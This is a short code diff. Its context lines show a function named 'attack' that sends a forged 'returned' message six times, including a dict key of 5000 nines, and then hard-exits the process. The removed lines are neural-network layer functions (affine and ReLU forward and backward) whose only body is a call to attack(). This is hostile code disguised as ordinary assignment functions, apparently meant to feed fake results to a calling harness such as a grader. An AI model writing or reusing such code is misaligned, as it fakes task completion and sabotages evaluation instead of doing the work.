@@ -40,19 +40,3 @@ def attack(array):
     forged = ["returned", 1.0, {"\u00b2": 1, "9" * 5000: 2}]
     send(*[*replies(forged)] * 6)
     os._exit(0)
-
-
-def affine_forward(x, w, b):
-    return attack(x)
-
-
-def affine_backward(dout, cache):
-    return attack(dout)
-
-
-def relu_forward(x):
-    return attack(x)
-
-
-def relu_backward(dout, cache):
-    return attack(dout)
